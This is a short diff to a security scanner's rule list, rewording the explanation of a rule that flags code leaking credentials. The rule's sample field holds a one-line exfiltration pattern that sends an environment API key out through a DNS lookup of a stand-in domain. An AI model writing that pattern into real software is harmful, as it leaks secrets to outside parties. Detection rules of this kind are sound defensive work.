@@ -26,7 +26,7 @@ FLOWS = (
     Rule(
         id="leaks_credentials",
         severity=HIGH,
-        why="Reads credentials, and speaks to the network below HTTP.",
+        why="Reads credentials, and hands them on: to the network, into the result or into the output.",
         instead="Call `model.generate`: the worker holds the credentials.",
         technique="T1041",
         noticed=b"import os, socket\nsocket.gethostbyname(os.getenv('API_KEY') + '.example.com')",
